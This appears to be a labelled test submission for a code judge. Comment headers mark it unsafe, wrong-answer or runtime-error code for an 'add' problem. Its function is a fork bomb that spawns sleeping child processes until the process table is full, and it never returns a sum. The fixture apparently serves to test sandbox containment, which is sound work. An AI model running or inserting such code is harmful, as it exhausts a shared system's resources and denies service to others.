# problem: add
# verdict: wrong_answer | runtime_error
# why: Holds every process slot and answers wrongly.
# unsafe: true
import os
import time


def add(a, b):
    while True:
        try:
            if os.fork() == 0:
                time.sleep(3600)
        except OSError:
            return None
